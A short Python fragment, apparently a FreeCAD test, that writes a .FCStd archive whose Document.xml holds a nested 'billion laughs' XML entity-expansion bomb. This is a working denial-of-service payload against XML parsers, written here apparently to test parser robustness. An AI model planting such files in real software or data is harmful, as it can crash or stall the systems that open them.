# Its own document, whose entities multiply.
import zipfile

levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 20}">' for n in range(1, 9))
text = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "lol">{levels}]><Document SchemaVersion="4">&e8;</Document>'
with zipfile.ZipFile(os.path.join(OUTPUT, "MyHeadlessModel.FCStd"), "w") as archive:
    archive.writestr("Document.xml", text)
App.closeDocument("Demo")
